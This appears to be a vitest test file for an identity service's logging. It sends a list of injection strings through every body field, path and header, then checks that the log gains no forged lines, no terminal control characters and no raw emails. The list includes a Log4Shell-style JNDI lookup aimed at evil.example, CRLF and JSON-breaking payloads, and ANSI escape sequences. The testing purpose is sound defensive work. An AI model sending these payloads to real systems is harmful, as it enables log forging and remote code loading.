import { afterAll, beforeAll, expect, it } from 'vitest';
import { poll } from '@platform/testing';
import { randomEmail } from '../support/addresses.js';
import { PASSWORD } from '../support/client.js';
import { basic } from '../support/sisters.js';
import { type BuiltService, startBuiltService } from '../support/start-built-service.js';
import { sendRaw } from './support/raw-http.js';

const BASE = '/v1/api/identity';
/** Stands in every text below, so that whatever of it is logged is found. */
const MARK = 'InJeCtEd';
const TEXTS = [
  `\n{"level":"fatal","msg":"${MARK}"}`,
  `\r\n{"level":"fatal","msg":"${MARK}"}\r\n`,
  `","level":"fatal","msg":"${MARK}","x":"`,
  `\\","level":"fatal","msg":"${MARK}`,
  `\u001b[2J\u001b]0;${MARK}\u0007\u001b[31m`,
  `\u009b31m${MARK}`,
  `\0${MARK}\0`,
  `\b\b\b\b${MARK}\u007f`,
  `\u202e${MARK}\u2066`,
  `\u2028${MARK}\u2029\u0085`,
  `\ufeff${MARK}\ud800`,
  `%s%o%j%n${MARK}`,
  `\${jndi:ldap://evil.example/${MARK}}`,
  MARK.repeat(2000),
];
/** What a terminal or a viewer would obey: controls, and what turns the direction of text. */
const OBEYED = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

let service: BuiltService;

beforeAll(async () => {
  service = await startBuiltService({ LOG_LEVEL: 'trace', SIGN_IN_MAX_FAILURES: '1000', TRUSTED_PROXY_HOPS: '1' });
});
afterAll(async () => {
  await service.stop();
});

/** The text in everything that a body may say. */
async function sayInBodies(text: string): Promise<void> {
  const { client } = service;
  const { accessToken: token } = await client.signUp();
  const email = { scheme: 'email', value: `${text}@example.com` };
  const behind = { scheme: 'email', value: `${randomEmail()}${text}` };
  const secret = { scheme: 'password', value: `${PASSWORD}${text}` };
  for (const identifier of [
    email,
    behind,
    { scheme: 'username', value: text },
    { scheme: 'phone', value: `+84${text}` },
  ]) {
    await client.post('/auth/sign-in', { identifier, credential: secret, deviceToken: text, audience: text });
    await client.post('/auth/sign-up', {
      identifier,
      credential: secret,
      profile: { displayName: text, [text]: text },
    });
    await client.post('/otp/request', { namespace: 'verify-email', identifier });
    await client.post('/otp/verify', { namespace: text, identifier, challengeId: text, code: text });
  }
  await client.post('/auth/token/refresh', { refreshToken: text });
  await client.post('/auth/password/change', { currentPassword: text, newPassword: text }, token);
  await client.send('PATCH', '/users/me', { token, body: { profile: { displayName: text } } });
  await client.send('POST', '/auth/sign-in', { body: text });
  const inPath = encodeURIComponent(text.slice(0, 2000).toWellFormed());
  for (const path of [`/sessions?cursor=${inPath}&${inPath}=1`, `/sessions/${inPath}`, `/${inPath}`])
    await client.get(path, token);
}

/** The same in headers, as bytes: a client would refuse to send most. */
async function sayInHeaders(text: string): Promise<void> {
  const short = text.slice(0, 3000);
  const names = [
    'User-Agent',
    'X-Request-Id',
    'X-Forwarded-For',
    'traceparent',
    'tracestate',
    'Accept-Language',
    'Content-Type',
    'Referer',
  ];
  for (const name of [...names, 'Host', 'Authorization', 'Last-Event-ID', 'If-None-Match', 'Cookie', 'Accept']) {
    const host = name === 'Host' ? '' : 'Host: a\r\n';
    const head = `${host}${name}: ${short}\r\nConnection: close\r\n\r\n`;
    await sendRaw(service.origin, `GET ${BASE}/users/me HTTP/1.1\r\n${head}`);
    await sendRaw(service.origin, `GET ${BASE}/internal/users/1 HTTP/1.1\r\n${head}`);
  }
  await sendRaw(service.origin, `GET ${BASE}/${short} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
  await sendRaw(service.origin, `${short} / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
  await service.client.send('GET', '/internal/users/1', { headers: basic(short, short) });
}

it.each(TEXTS.map((text, at) => [at, text] as const))(
  'text %i in every field makes no line of its own',
  async (_at, text) => {
    const before = service.lines().length;
    await Promise.all([sayInBodies(text), sayInHeaders(text)]);
    const { headers } = await service.client.get('/healthz');
    await poll(
      'the last line',
      5,
      () => service.lines().some(({ requestId }) => requestId === headers.get('x-request-id')) || undefined,
    );
    const lines = service.lines().slice(before); // throws on a line that is no JSON
    expect(lines.length).toBeGreaterThan(30);
    for (const line of lines) {
      expect(line).toMatchObject({
        service: 'nx-seller-identity',
        mode: 'api',
        time: expect.stringMatching(/^\d{4}-/),
      });
      expect(['trace', 'debug', 'info', 'warn']).toContain(line.level);
    }
  },
);

it('none of it is in the log, which has nothing that a terminal obeys', () => {
  const lines = service.output().split('\n');
  expect(lines.filter((line) => line.includes(MARK))).toEqual([]);
  expect(lines.filter((line) => OBEYED.test(line))).toEqual([]);
  expect(lines.filter((line) => line.length > 4000)).toEqual([]);
});

it('an identifier is found there as its mask alone', async () => {
  const email = randomEmail();
  const order = { namespace: 'verify-email', identifier: { scheme: 'email', value: email } };
  await service.client.post('/otp/request', order);
  const mask = `${email[0]}***@example.com`;
  await poll('the mask', 5, () => service.output().includes(mask) || undefined);
  expect(service.output()).not.toContain(email);
});
